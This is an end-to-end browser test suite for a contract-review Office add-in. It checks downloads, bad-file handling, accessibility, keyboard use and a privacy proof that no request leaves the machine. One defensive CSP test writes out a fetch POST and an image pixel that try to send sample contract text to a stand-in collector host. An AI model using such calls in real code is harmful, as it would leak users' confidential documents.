// End-to-end: the production task pane page in headless Chromium as the standalone reviewer; proves no request leaves the machine, checks downloads, bad files, CSP, axe and the keyboard path.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, existsSync, createReadStream } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { dirname, extname, join, normalize, resolve, sep } from "node:path";
import { Workbook } from "exceljs";
import JSZip from "jszip";
import { chromium, type Browser, type BrowserContext, type FileChooser, type Page, type Request, type Route } from "playwright-core";
import { SHEET_NAMES, REGISTER_TABLE_NAME } from "../../src/analysis/register";
import { reviewParagraphs } from "../../src/analysis/review";
import { DEFAULT_INPUTS } from "../../src/analysis/risk";
import { BAND_LABEL, STATUS_LABEL, AREA_LABEL } from "../../src/analysis/labels";
import type { Report } from "../../src/analysis/types";
import { errorMessage, MAX_FILE_BYTES, readDocumentBytes } from "../../src/documents";
import { AREAS, type Lang } from "../../src/rules/types";

const ROOT = resolve(__dirname, "../..");
/** The build under test: `npm test` builds dist/ first; AVTALSKOLL_E2E_DIST points elsewhere for a build of one's own. */
const DIST = resolve(ROOT, process.env.AVTALSKOLL_E2E_DIST ?? "dist");
const CHROMIUM = process.env.AVTALSKOLL_CHROMIUM ?? "/usr/bin/chromium";
const CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync", "--disable-quic"];

/** The production page loads office.js from Microsoft's CDN (script tag in src/taskpane/taskpane.html). */
const CDN_ORIGIN = "https://appsforoffice.microsoft.com";
const CDN_FOLDER = "/lib/1/hosted/";
const OFFICE_JS_URL = `${CDN_ORIGIN}${CDN_FOLDER}office.js`;
const OFFICE_JS_DIST = dirname(require.resolve("@microsoft/office-js/dist/office.js"));

const SAMPLES = join(ROOT, "samples");
const SV_DOCX = join(SAMPLES, "molntjanstavtal-utkast.docx");
const SV_TXT = join(SAMPLES, "molntjanstavtal-utkast.txt");
const EN_DOCX = join(SAMPLES, "cloud-service-agreement-draft.docx");
const SCREENSHOTS = join(ROOT, "docs", "screenshots");

/** Words that only occur in the sample contracts: if any request carried them, document content would be leaving the page. */
const CONTENT_MARKERS = ["Norrbacka kommun", "Ärendia Cloud", "Nordvik Datacenter", "Quillbridge", "Region Västerholm", "underbiträde"];

jest.setTimeout(180_000);

// ---------------------------------------------------------------------------------------------------------------
// Every request the pages make, from every context, seen twice: by a context-wide route (which decides what may pass)
// and by the context/page "request" events (which also see what a route might miss).

interface Seen {
  readonly test: string;
  /** The context's route intercepted it: the browser was about to send it (CSP had not stopped it). */
  routed: boolean;
  /** Chromium's reason when it failed ("csp" / net::ERR_BLOCKED_BY_CSP: refused by the page's policy before any connection). */
  failure?: string;
  readonly method: string;
  readonly url: string;
  readonly resourceType: string;
  readonly postData: string | null;
  readonly headers: Readonly<Record<string, string>>;
  readonly outcome: "local" | "cdn-served-locally" | "cdn-aborted" | "outside";
}
const seen: Seen[] = [];
const byRequest = new WeakMap<Request, Seen>();
const serverLog: string[] = [];
const pageErrors: string[] = [];
const cspConsole = new Set<string>();
/** Contexts whose office.js CDN requests are aborted (the "office.js cannot load" run). */
const cdnBlocked = new WeakSet<BrowserContext>();
let currentTest = "(setup)";
let port = 0;

/** Requests that never touch the network: in-page blobs (downloads) and data: URLs. */
const inMemory = (url: URL) => url.protocol === "blob:" || url.protocol === "data:";
const isLocal = (url: URL) => url.protocol === "http:" && (url.hostname === "127.0.0.1" || url.hostname === "localhost") && url.port === String(port);

/**
 * What may go to Microsoft's CDN: a plain GET (no query, no body) of office.js, or of a file office.js loads from its own
 * folder (o15apptofilemappingtable.js outside Office; host and locale scripts inside it). Those are the same public static
 * scripts, and a GET by file name carries nothing of the document. The test never lets them reach the internet: it serves
 * the copies in node_modules/@microsoft/office-js/dist, so the run also works offline.
 */
function officeJsFile(request: Request): string | null {
  const url = new URL(request.url());
  if (request.method() !== "GET" || url.origin !== CDN_ORIGIN || url.search || url.hash || request.postData() !== null) return null;
  if (!url.pathname.startsWith(CDN_FOLDER)) return null;
  const relative = normalize(decodeURIComponent(url.pathname.slice(CDN_FOLDER.length)));
  if (relative.startsWith("..") || relative.includes(`${sep}..`)) return null;
  const file = join(OFFICE_JS_DIST, relative);
  return file.startsWith(OFFICE_JS_DIST + sep) && existsSync(file) && statSync(file).isFile() ? file : null;
}

function classify(request: Request, blockCdn: boolean): Seen["outcome"] {
  const url = new URL(request.url());
  if (isLocal(url) || inMemory(url)) return "local";
  if (officeJsFile(request)) return blockCdn ? "cdn-aborted" : "cdn-served-locally";
  return "outside";
}

/** Records a request once, whichever listener sees it first (route, context or page event). */
function record(request: Request, blockCdn: boolean, routed = false): Seen {
  let entry = byRequest.get(request);
  if (!entry) {
    entry = { test: currentTest, routed, method: request.method(), url: request.url(), resourceType: request.resourceType(), postData: request.postData(), headers: request.headers(), outcome: classify(request, blockCdn) };
    byRequest.set(request, entry);
    seen.push(entry);
  }
  entry.routed ||= routed;
  return entry;
}

/**
 * A request to any other host is a failure unless Chromium refused it under the page's CSP before connecting (the CSP
 * probe below provokes exactly that). Anything the route saw was about to leave, and fails even though the route aborts it.
 */
const CSP_FAILURES = new Set(["csp", "net::ERR_BLOCKED_BY_CSP"]);
const blockedByCsp = (s: Seen) => !s.routed && s.failure !== undefined && CSP_FAILURES.has(s.failure);
const violations = () => seen.filter((s) => s.outcome === "outside" && !blockedByCsp(s)).map((s) => `${s.test}: ${s.method} ${s.url}${s.failure ? ` (${s.failure})` : ""}`);

/** A fresh context (its own temporary profile) whose every request is recorded and checked. */
async function newContext(browser: Browser, options: { locale: Lang; colorScheme?: "light" | "dark"; blockCdn?: boolean }): Promise<BrowserContext> {
  const blockCdn = options.blockCdn ?? false;
  const context = await browser.newContext({
    locale: options.locale === "sv" ? "sv-SE" : "en-US",
    colorScheme: options.colorScheme ?? "light",
    viewport: { width: 960, height: 1200 },
    acceptDownloads: true,
    serviceWorkers: "block",
  });
  if (blockCdn) cdnBlocked.add(context);
  await context.route("**/*", async (route: Route) => {
    const request = route.request();
    const { outcome } = record(request, blockCdn, true);
    if (outcome === "local") return route.continue();
    if (outcome === "cdn-served-locally") return route.fulfill({ path: officeJsFile(request)!, contentType: "text/javascript; charset=utf-8" });
    // Blocked CDN (the "office.js cannot load" run) and anything else: never reaches the network.
    return route.abort("blockedbyclient");
  });
  // The route sees what the page fetches; the events also see requests that bypass routing (e.g. a worker's own).
  context.on("request", (request) => void record(request, blockCdn));
  context.on("requestfailed", (request) => {
    const entry = record(request, blockCdn);
    entry.failure = request.failure()?.errorText ?? "failed";
  });
  // CSP violations (blocked before any request is made) are collected in the page for the report.
  await context.addInitScript(() => {
    const w = window as unknown as { __csp: { directive: string; blocked: string }[] };
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  return context;
}

async function openPage(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  page.on("request", (request) => void record(request, cdnBlocked.has(context)));
  page.on("pageerror", (error) => void pageErrors.push(`${currentTest}: ${error.message}`));
  // What the CSP refused (e.g. office.js's telemetry frame outside Office), for the closing report.
  page.on("console", (message) => {
    if (/Content Security Policy/u.test(message.text())) cspConsole.add(message.text().replace(/\s+/gu, " ").slice(0, 160));
  });
  await page.goto(`http://127.0.0.1:${port}/taskpane.html`);
  return page;
}

const cspViolations = (page: Page) => page.evaluate(() => (window as unknown as { __csp: { directive: string; blocked: string }[] }).__csp);

// ---------------------------------------------------------------------------------------------------------------
// Static server for the build, on 127.0.0.1 and a random port.

const TYPES: Readonly<Record<string, string>> = { ".html": "text/html; charset=utf-8", ".js": "text/javascript; charset=utf-8", ".json": "application/json", ".png": "image/png", ".xml": "application/xml", ".txt": "text/plain; charset=utf-8" };

function serve(root: string): Promise<Server> {
  const server = createServer((req, res) => {
    serverLog.push(`${req.method} ${req.url}`);
    const path = normalize(join(root, decodeURIComponent(new URL(req.url ?? "/", "http://x").pathname)));
    if (req.method !== "GET" || !path.startsWith(root + sep) || !existsSync(path) || !statSync(path).isFile()) {
      res.writeHead(req.method === "GET" ? 404 : 405).end();
      return;
    }
    res.writeHead(200, { "content-type": TYPES[extname(path)] ?? "application/octet-stream", "cache-control": "no-store" });
    createReadStream(path).pipe(res);
  });
  return new Promise((done) => server.listen(0, "127.0.0.1", () => done(server)));
}

// ---------------------------------------------------------------------------------------------------------------
// Page helpers (the UI language follows the browser's locale).

const T = {
  sv: { panel: "Granska en fil", choose: "Välj fil…", results: "Resultat", xlsx: "Riskbedömning (.xlsx)", docx: "Rapport med risktabell (.docx)", cannot: "Filen kunde inte granskas", overall: "Samlad bedömning", problems: "Endast brister", change: "Ändra status" },
  en: { panel: "Review a file", choose: "Choose file…", results: "Results", xlsx: "Risk assessment (.xlsx)", docx: "Report with risk table (.docx)", cannot: "The file could not be reviewed", overall: "Overall", problems: "Problems only", change: "Change status" },
} as const;

async function waitForStandalone(page: Page, lang: Lang): Promise<void> {
  await page.getByRole("heading", { name: T[lang].panel }).waitFor({ timeout: 30_000 });
  await page.getByRole("button", { name: T[lang].choose }).waitFor();
}

const chooseButton = (page: Page, lang: Lang) => page.getByRole("button", { name: T[lang].choose });

/** Loads a file through the (hidden) file input, as the picker would, and waits until the pane is idle again. */
async function loadFile(page: Page, lang: Lang, file: string | { name: string; mimeType: string; buffer: Buffer }): Promise<void> {
  await page.locator('input[type="file"]').setInputFiles(file);
  await idle(page, lang);
}

async function idle(page: Page, lang: Lang): Promise<void> {
  await page.waitForFunction(() => document.querySelector("main")?.getAttribute("aria-busy") === "false", undefined, { timeout: 60_000 });
  await page.waitForFunction((name) => [...document.querySelectorAll("button")].some((b) => b.textContent === name && b.getAttribute("aria-disabled") !== "true"), T[lang].choose);
}

async function reviewedResults(page: Page, lang: Lang) {
  const results = page.getByRole("region", { name: T[lang].results });
  await results.waitFor({ timeout: 60_000 });
  return results;
}

/** The engine run in Node on the same file and settings as the page: the page must show the same findings. */
async function expectedReport(file: string, lang: Lang): Promise<Report> {
  const name = file.split(sep).pop()!;
  const read = await readDocumentBytes(name, new Uint8Array(readFileSync(file)));
  if (!read.ok) throw new Error(`sample unreadable: ${read.code}`);
  return reviewParagraphs(read.paragraphs, { name, inputs: DEFAULT_INPUTS, outputLanguage: lang, overrides: [] });
}

interface AxeResult {
  readonly violations: readonly { id: string; impact: string | null; help: string; nodes: readonly { target: readonly string[] }[] }[];
  readonly passes: readonly unknown[];
}
const axeSource = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
const axeLog: string[] = [];

/**
 * Runs axe-core in the page against WCAG 2.x A/AA and best practices. The page's CSP forbids inline scripts, so axe is
 * evaluated through the DevTools protocol (as addScriptTag's inline <script> would be refused) — the CSP stays on.
 */
async function axe(page: Page, label: string): Promise<AxeResult> {
  await page.evaluate(`${axeSource}\n;void 0`);
  const result = await page.evaluate(() =>
    (window as unknown as { axe: { run(ctx: Document, o: object): Promise<AxeResult> } }).axe
      .run(document, { runOnly: { type: "tag", values: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] } })
      .then((r) => ({ violations: r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.map((n) => ({ target: n.target })) })), passes: r.passes })),
  );
  const bad = result.violations.filter((v) => v.impact === "serious" || v.impact === "critical");
  axeLog.push(`${label}: ${result.passes.length} rules passed, ${result.violations.length} violations (${result.violations.map((v) => `${v.id}/${v.impact}×${v.nodes.length}`).join(", ") || "none"})`);
  expect(bad.map((v) => `${v.id} (${v.impact}): ${v.help} — ${v.nodes.map((n) => n.target.join(" ")).slice(0, 5).join(" | ")}`)).toEqual([]);
  return result;
}

async function download(page: Page, button: string): Promise<{ name: string; bytes: Buffer }> {
  const [file] = await Promise.all([page.waitForEvent("download", { timeout: 60_000 }), page.getByRole("button", { name: button }).click()]);
  const path = await file.path();
  return { name: file.suggestedFilename(), bytes: readFileSync(path) };
}

// ---------------------------------------------------------------------------------------------------------------

let browser: Browser;
let server: Server;
let started = 0;
let scratch: string;

beforeAll(async () => {
  started = Date.now();
  if (!existsSync(join(DIST, "taskpane.html"))) throw new Error(`No production build in ${DIST}: run "npm run build" first (npm test does).`);
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: install Debian's chromium (apt-get install -y chromium); the tests never download browsers.`);
  scratch = mkdtempSync(join(tmpdir(), "avtalskoll-e2e-"));
  server = await serve(DIST);
  port = (server.address() as { port: number }).port;
  // launch() gives every run a fresh temporary profile (user-data dir) and deletes it on close.
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS });
});

beforeEach(() => {
  currentTest = expect.getState().currentTestName ?? "?";
});

afterAll(async () => {
  await browser?.close();
  await new Promise((done) => (server ? server.close(done) : done(undefined)));
  if (scratch) rmSync(scratch, { recursive: true, force: true });
  const byOutcome = (o: Seen["outcome"]) => [...new Set(seen.filter((s) => s.outcome === o).map((s) => `${s.method} ${s.url.replace(/127\.0\.0\.1:\d+/u, "127.0.0.1:<port>").replace(/^(blob:[^/]+\/\/[^/]+\/).*/u, "$1<uuid>")}`))];
  console.log(
    [
      `e2e browser suite: ${((Date.now() - started) / 1000).toFixed(1)} s`,
      `requests recorded: ${seen.length} (${seen.filter((s) => s.outcome === "local").length} to 127.0.0.1 or in-memory blob:, ${seen.filter((s) => s.outcome === "cdn-served-locally").length} office.js CDN GETs served from node_modules, ${seen.filter((s) => s.outcome === "cdn-aborted").length} CDN GETs aborted on purpose, ${seen.filter((s) => s.outcome === "outside").length} to other hosts)`,
      "distinct local:",
      ...byOutcome("local").map((u) => `  ${u}`),
      "distinct CDN (served locally):",
      ...byOutcome("cdn-served-locally").map((u) => `  ${u}`),
      `other hosts: ${seen.filter((s) => s.outcome === "outside").map((s) => `${s.method} ${s.url} → ${s.routed ? "reached the route (violation)" : (s.failure ?? "no failure recorded")}`).join("; ") || "none"}`,
      `violations: ${violations().join("; ") || "none"}`,
      "refused by the CSP (console):",
      ...[...cspConsole].map((m) => `  ${m}`),
      "axe:",
      ...axeLog.map((l) => `  ${l}`),
    ].join("\n"),
  );
});

describe("standalone page in Swedish (sv-SE), office.js from the CDN URL", () => {
  let context: BrowserContext;
  let page: Page;
  let expected: Report;

  beforeAll(async () => {
    expected = await expectedReport(SV_DOCX, "sv");
    context = await newContext(browser, { locale: "sv" });
  });
  afterAll(() => context?.close());

  it("the production page loads office.js from the CDN and sets a strict Content-Security-Policy", async () => {
    const html = readFileSync(join(DIST, "taskpane.html"), "utf8");
    expect(html).toContain(`<script src="${OFFICE_JS_URL}"`);
    page = await openPage(context);
    await waitForStandalone(page, "sv");
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    const directives = new Map(csp!.split(";").map((d) => d.trim().split(/\s+/u)).map(([k, ...v]) => [k!, v]));
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(directives.get("default-src")).toEqual(["'self'"]);
    expect(directives.get("script-src")).toEqual(["'self'", CDN_ORIGIN]);
    expect(directives.get("frame-src")).toEqual([CDN_ORIGIN]);
    expect(directives.get("object-src")).toEqual(["'none'"]);
    expect(csp).not.toMatch(/unsafe-eval|\*/u);
    // office.js really ran (outside Office it says so) and the page is the standalone reviewer, in Swedish.
    expect(await page.evaluate(() => typeof (window as unknown as { Office?: unknown }).Office)).toBe("object");
    expect(await page.evaluate(() => document.documentElement.lang)).toBe("sv");
    expect(seen.some((s) => s.url === OFFICE_JS_URL && s.outcome === "cdn-served-locally")).toBe(true);
  });

  it("settings and file picker pass axe (no serious or critical violations)", async () => {
    await axe(page, "settings + file picker (sv, light)");
  });

  it("reviews the sample .docx and shows the engine's findings grouped by area, with quotes and the overall band", async () => {
    await loadFile(page, "sv", SV_DOCX);
    const results = await reviewedResults(page, "sv");
    expect(await results.getByRole("status").textContent()).toContain(`${T.sv.overall}: ${BAND_LABEL[expected.overall.band].sv}`);
    for (const area of AREAS) {
      const n = expected.requirements.filter((r) => r.area === area).length;
      await results.getByRole("button", { name: new RegExp(`^${AREA_LABEL[area].sv} \\(${n}\\)`, "u") }).waitFor();
    }
    const counts = await results.getByRole("list", { name: "Antal per status" }).getByRole("listitem").allTextContents();
    expect(counts).toEqual((["met", "weak", "contrary", "missing"] as const).map((s) => `${STATUS_LABEL[s].sv}: ${expected.requirements.filter((r) => r.status === s).length}`));
    const quotes = await results.getByLabel("Citat").allTextContents();
    expect(quotes).toEqual(expected.requirements.filter((r) => r.evidence[0]).map((r) => r.evidence[0]!.quote));
    expect(quotes.join("\n")).toContain("Leverantören äger rätt att ensidigt ändra dessa villkor");
    await page.getByText("Granskad fil: molntjanstavtal-utkast.docx").waitFor();
  });

  it("results view passes axe, also with an override editor open", async () => {
    await page.getByRole("button", { name: /^Ändra status: /u }).first().click();
    await axe(page, "results view + override editor (sv, light)");
    await page.getByRole("button", { name: /^Ändra status: /u }).first().click();
  });

  it("downloads the risk assessment .xlsx, which exceljs opens with the register table and the matrix", async () => {
    const { name, bytes } = await download(page, T.sv.xlsx);
    expect(name).toBe("molntjanstavtal-utkast-riskbedomning.xlsx");
    const wb = new Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual([SHEET_NAMES.register.sv, SHEET_NAMES.matrix.sv, SHEET_NAMES.assessment.sv]);
    const register = wb.getWorksheet(SHEET_NAMES.register.sv)!;
    expect(register.getTable(REGISTER_TABLE_NAME)).toBeDefined();
    const zip = await JSZip.loadAsync(bytes);
    const table = await zip.file("xl/tables/table1.xml")!.async("string");
    expect(table).toContain(`name="${REGISTER_TABLE_NAME}"`);
    // The register lists the scored, non-met requirements; the assessment sheet has every requirement's row.
    const assessment = wb.getWorksheet(SHEET_NAMES.assessment.sv)!;
    const ids = new Set<string>();
    assessment.eachRow((row) => ids.add(String(row.getCell(1).value)));
    for (const r of expected.requirements) expect(ids.has(r.id)).toBe(true);
    expect(wb.getWorksheet(SHEET_NAMES.matrix.sv)!.getCell("A1").value).toBeTruthy();
  });

  it("downloads a .docx report whose risk table has a row per requirement", async () => {
    const { name, bytes } = await download(page, T.sv.docx);
    expect(name).toBe("molntjanstavtal-utkast-riskbedomning.docx");
    const zip = await JSZip.loadAsync(bytes);
    const xml = await zip.file("word/document.xml")!.async("string");
    expect(xml.match(/<w:tr[ >]/gu)).toHaveLength(expected.requirements.length + 1);
    expect(xml).toContain("Riskbedömning: molntjanstavtal-utkast.docx");
    expect(xml).toContain(BAND_LABEL[expected.overall.band].sv);
  });

  it("bad files (corrupt .docx, 30 MB, .png) each show a clear message; the page stays usable and reviews a good file after", async () => {
    const corrupt = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2000, 7)]);
    const corruptRead = await readDocumentBytes("trasig.docx", new Uint8Array(corrupt));
    if (corruptRead.ok) throw new Error("the corrupt fixture was readable");
    const huge = join(scratch, "stort-avtal.docx");
    writeFileSync(huge, Buffer.alloc(30 * 1024 * 1024, 0x41));
    const png = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da6364f8cf00000301010018dd8db40000000049454e44ae426082", "hex");
    const cases = [
      { file: { name: "trasig.docx", mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", buffer: corrupt }, name: "trasig.docx", text: errorMessage(corruptRead.code, "sv", corruptRead.details) },
      { file: huge, name: "stort-avtal.docx", text: errorMessage("too-large", "sv", { size: 30 * 1024 * 1024, limit: MAX_FILE_BYTES }) },
      { file: { name: "skärmbild.png", mimeType: "image/png", buffer: png }, name: "skärmbild.png", text: errorMessage("unsupported-type", "sv", { extension: ".png" }) },
    ];
    expect(cases[1]!.text).toBe("Filen är för stor för att granskas (30 MB); gränsen är 25 MB.");
    for (const c of cases) {
      await loadFile(page, "sv", c.file);
      // The message names the file, so an earlier file's message cannot pass for this one.
      const alert = page.getByRole("alert").filter({ hasText: `${T.sv.cannot}: ${c.name}` });
      // A hang guard, generous for slow CI machines: the 30 MB file is refused by its size without being read.
      await alert.waitFor({ timeout: 45_000 });
      expect(await alert.textContent()).toBe(`${T.sv.cannot}: ${c.name}${c.text}`);
      expect(await chooseButton(page, "sv").getAttribute("aria-disabled")).not.toBe("true");
      if (c.name === "trasig.docx") await axe(page, "error state (sv, light)");
    }
    await loadFile(page, "sv", SV_TXT);
    await reviewedResults(page, "sv");
    await page.getByText("Granskad fil: molntjanstavtal-utkast.txt").waitFor();
    await idle(page, "sv");
    expect(await page.getByRole("alert").count()).toBe(0);
  });

  it("the CSP blocks the page from reaching any other host (fetch, image), and reports it", async () => {
    const before = (await cspViolations(page)).length;
    const outcome = await page.evaluate(async () => {
      try {
        await fetch("https://collector.example.net/upload", { method: "POST", body: "Norrbacka kommun" });
        return "sent";
      } catch (error) {
        return `failed: ${(error as Error).name}`;
      }
    });
    expect(outcome).toBe("failed: TypeError");
    const image = await page.evaluate(
      () =>
        new Promise<string>((done) => {
          const img = new Image();
          img.onload = () => done("loaded");
          img.onerror = () => done("blocked");
          img.src = "https://collector.example.net/pixel.png?q=Norrbacka";
        }),
    );
    expect(image).toBe("blocked");
    const csp = (await cspViolations(page)).slice(before);
    expect(csp).toEqual(
      expect.arrayContaining([
        { directive: "connect-src", blocked: "https://collector.example.net/upload" },
        { directive: "img-src", blocked: expect.stringMatching(/^https:\/\/collector\.example\.net\//u) },
      ]),
    );
    // Refused by the browser under the CSP before any connection: the fetch never became a request, the image request
    // failed with ERR_BLOCKED_BY_CSP without reaching the route (which would have counted it as a violation).
    const probes = seen.filter((s) => s.url.includes("collector.example.net"));
    // The failure event can trail the page's onerror by a moment.
    for (let i = 0; i < 20 && probes.some((p) => !p.failure); i++) await new Promise((done) => setTimeout(done, 100));
    expect(probes.filter((p) => !blockedByCsp(p))).toEqual([]);
  });
});

describe("results in light and dark theme (en-US, English sample): screenshots and axe", () => {
  it.each(["light", "dark"] as const)("%s theme", async (scheme) => {
    const context = await newContext(browser, { locale: "en", colorScheme: scheme });
    try {
      const page = await openPage(context);
      await waitForStandalone(page, "en");
      await loadFile(page, "en", EN_DOCX);
      const results = await reviewedResults(page, "en");
      expect(await results.getByRole("status").textContent()).toMatch(/^Overall: /u);
      expect(await page.evaluate(() => getComputedStyle(document.querySelector("main")!.parentElement!).backgroundColor)).toBe(scheme === "dark" ? "rgb(41, 41, 41)" : "rgb(255, 255, 255)");
      await axe(page, `results view (en, ${scheme})`);
      mkdirSync(SCREENSHOTS, { recursive: true });
      // The top of the results (overall band, counts, filter, first findings), in page coordinates.
      const top = await results.evaluate((el) => el.getBoundingClientRect().top + window.scrollY);
      await page.screenshot({ path: join(SCREENSHOTS, `results-${scheme}.png`), fullPage: true, clip: { x: 0, y: Math.max(0, top - 16), width: 960, height: 1000 } });
    } finally {
      await context.close();
    }
  });
});

describe("keyboard only", () => {
  it("Tab to the file button, open the picker with Enter, review, then move through the findings", async () => {
    const context = await newContext(browser, { locale: "en" });
    try {
      const page = await openPage(context);
      await waitForStandalone(page, "en");
      const focused = () => page.evaluate(() => {
        const el = document.activeElement as HTMLElement | null;
        return { tag: el?.tagName ?? "", name: (el?.getAttribute("aria-label") ?? el?.textContent ?? "").trim(), type: el?.getAttribute("type") ?? "", expanded: el?.getAttribute("aria-expanded") ?? null, inResults: !!el?.closest('[aria-label="Results"]') };
      });
      // Listening before the first key press: Playwright turns on file-chooser interception when a listener is added, and
      // a dialog opened before that round trip completes would be a native one the test never sees.
      const chooserOpened = new Promise<FileChooser>((done) => page.once("filechooser", done));
      let presses = 0;
      while ((await focused()).name !== T.en.choose) {
        await page.keyboard.press("Tab");
        if (++presses > 40) throw new Error("the file button is not reachable with Tab");
      }
      await page.keyboard.press("Enter");
      const chooser = await Promise.race([chooserOpened, new Promise<never>((_, fail) => setTimeout(() => fail(new Error("Enter on the file button opened no file dialog")), 30_000))]);
      expect(chooser.isMultiple()).toBe(false);
      await chooser.setFiles(EN_DOCX);
      await idle(page, "en");
      const results = await reviewedResults(page, "en");
      // Focus stayed on the file button through the review (it is only aria-disabled while busy).
      expect((await focused()).name).toBe(T.en.choose);

      const trail: { tag: string; name: string; type: string; expanded: string | null; inResults: boolean }[] = [];
      let toggled = false;
      let filtered = false;
      let editorOpened = false;
      for (let i = 0; i < 200; i++) {
        await page.keyboard.press("Tab");
        const f = await focused();
        if (!f.inResults && trail.some((t) => t.inResults)) break;
        trail.push(f);
        if (f.type === "radio" && !filtered) {
          // Arrow keys move within the filter; "Problems only" hides the met requirements.
          const before = await results.getByRole("listitem").count();
          await page.keyboard.press("ArrowRight");
          expect(await page.getByRole("radio", { name: T.en.problems }).isChecked()).toBe(true);
          expect(await results.getByRole("listitem").count()).toBeLessThan(before);
          filtered = true;
        }
        if (f.expanded === "true" && /^Control rights/u.test(f.name) && !toggled) {
          await page.keyboard.press("Enter");
          expect((await focused()).expanded).toBe("false");
          await page.keyboard.press("Enter");
          expect((await focused()).expanded).toBe("true");
          toggled = true;
        }
        if (f.name.startsWith(`${T.en.change}: `) && !editorOpened) {
          await page.keyboard.press("Enter");
          await results.getByRole("group", { name: f.name }).waitFor();
          editorOpened = true;
        }
      }
      const names = trail.filter((t) => t.inResults).map((t) => t.name);
      expect(filtered && toggled && editorOpened).toBe(true);
      for (const area of ["Control rights", "Foreign jurisdiction", "Data location", "Confidentiality"]) expect(names.some((n) => n.startsWith(`${area} (`))).toBe(true);
      expect(names.filter((n) => n.startsWith(`${T.en.change}: `)).length).toBeGreaterThan(5);
      // The editor's fields are in the Tab order too.
      expect(trail.some((t) => t.tag === "SELECT") && trail.some((t) => t.tag === "TEXTAREA")).toBe(true);
    } finally {
      await context.close();
    }
  });
});

describe("office.js cannot load (offline, blocked CDN)", () => {
  it("the page still starts as the standalone reviewer and reviews a file", async () => {
    const context = await newContext(browser, { locale: "en", blockCdn: true });
    try {
      const page = await openPage(context);
      await waitForStandalone(page, "en");
      // Without office.js the page knows at once that it is standalone; the check below (no Office global)
      // proves it did not wait for Office.onReady, so no wall-clock bound is needed on a slow CI machine.
      expect(await page.evaluate(() => typeof (window as unknown as { Office?: unknown }).Office)).toBe("undefined");
      expect(seen.some((s) => s.test === currentTest && s.url === OFFICE_JS_URL && s.outcome === "cdn-aborted")).toBe(true);
      await loadFile(page, "en", SV_TXT);
      await reviewedResults(page, "en");
      await page.getByText("Reviewed file: molntjanstavtal-utkast.txt").waitFor();
    } finally {
      await context.close();
    }
  });
});

describe("privacy proof over the whole run", () => {
  it("no request went anywhere but 127.0.0.1 and office.js's CDN folder (plain GETs, served locally)", () => {
    expect(seen.length).toBeGreaterThan(10);
    expect(violations()).toEqual([]);
    for (const s of seen.filter((x) => x.outcome === "cdn-served-locally" || x.outcome === "cdn-aborted")) {
      expect(s.method).toBe("GET");
      expect(s.url.startsWith(`${CDN_ORIGIN}${CDN_FOLDER}`)).toBe(true);
    }
    // Even towards 127.0.0.1 the page only GETs files of the build (no uploads, no API).
    expect(seen.filter((s) => s.method !== "GET")).toEqual([]);
    expect(serverLog.filter((l) => !l.startsWith("GET "))).toEqual([]);
  });

  it("no request carried document content (URL, headers or body)", () => {
    const needles = CONTENT_MARKERS.flatMap((m) => [m, encodeURIComponent(m), m.toLowerCase(), encodeURIComponent(m).toLowerCase()]);
    const carrying = seen.filter((s) => {
      const haystack = `${s.url}\n${s.postData ?? ""}\n${JSON.stringify(s.headers)}`;
      return needles.some((n) => haystack.includes(n));
    });
    expect(carrying.map((s) => `${s.method} ${s.url}`)).toEqual([]);
    expect(seen.filter((s) => s.postData !== null)).toEqual([]);
    expect(serverLog.filter((l) => needles.some((n) => l.includes(n)))).toEqual([]);
  });

  it("no page raised an uncaught error", () => {
    expect(pageErrors).toEqual([]);
  });
});
